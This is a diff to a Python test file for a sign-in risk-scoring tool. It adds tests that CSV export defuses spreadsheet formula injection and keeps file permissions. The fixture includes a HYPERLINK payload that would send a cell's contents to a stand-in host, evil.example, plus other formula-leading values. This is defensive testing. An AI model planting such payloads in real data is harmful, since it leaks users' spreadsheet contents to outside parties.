@@ -608,6 +608,42 @@ def test_an_export_to_a_missing_folder_or_onto_a_folder_is_refused_with_its_path
     assert res.exit_code == 2 and f"{folder}: is a folder" in res.stderr
     assert list(folder.iterdir()) == []
     assert [p.name for p in tmp_path.iterdir() if not p.name.startswith(store.name)] == ["a-folder"]
+    # a folder no file can be made in, whatever its permission bits say (root passes them): tried, before the
+    # store is opened (it had been created, then the export failed)
+    fresh = tmp_path / "fresh.duckdb"
+    res = runner.invoke(app, ["export", "--out", "/proc/riskgate-x.csv", "--db", str(fresh)])
+    assert res.exit_code == 2 and "/proc/riskgate-x.csv: folder /proc is not writable" in res.stderr, res.output
+    assert not list(tmp_path.glob("fresh.duckdb*"))
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula_and_a_replaced_file_keeps_its_mode(store, tmp_path):
+    """A username is whatever was typed at a sign-in form: ``=HYPERLINK(...)`` in a CSV export ran as a formula in
+    the analyst's spreadsheet. A cell starting with = + - @, a tab or a carriage return gets a leading ' (OWASP);
+    JSON lines keep the value as it is. And an existing private file was made world-readable by the rename."""
+    import csv as csvlib
+    import stat
+
+    from tests.events_gen import event, write_jsonl
+
+    names = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+SUM(1)", "-2+3", "@SUM(1)", "\tx", "\rx", "ok-user",
+             "a=b"]
+    write_jsonl(tmp_path / "odd.jsonl", [event(90_000 + i, Username=u, ClientId="=1+1" if i == 0 else "app1")
+                                         for i, u in enumerate(names)])
+    rg("ingest", tmp_path / "odd.jsonl", db=store)
+    rg("score", db=store)
+    out = tmp_path / "x.csv"
+    out.write_text("private\n")
+    out.chmod(0o600)
+    rg("export", "--out", out, db=store)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    with open(out, newline="", encoding="utf-8") as fh:
+        rows = {r["username"]: r for r in csvlib.DictReader(fh)}
+    assert {u for u in rows if u[:1] in "'=+-@\t\r"} == {"'" + u for u in names[:6]}
+    assert "ok-user" in rows and "a=b" in rows
+    assert rows["'" + names[0]]["client_id"] == "'=1+1"
+    jl = tmp_path / "x.jsonl"
+    rg("export", "--out", jl, "--format", "jsonl", db=store)
+    assert {json.loads(x)["username"] for x in jl.read_text().splitlines()} >= set(names)
 
 
 @pytest.mark.parametrize("argv", [["score"], ["export", "--out", "{tmp}/x.csv"], ["train"], ["tune", "--max-blocked", "1%"],
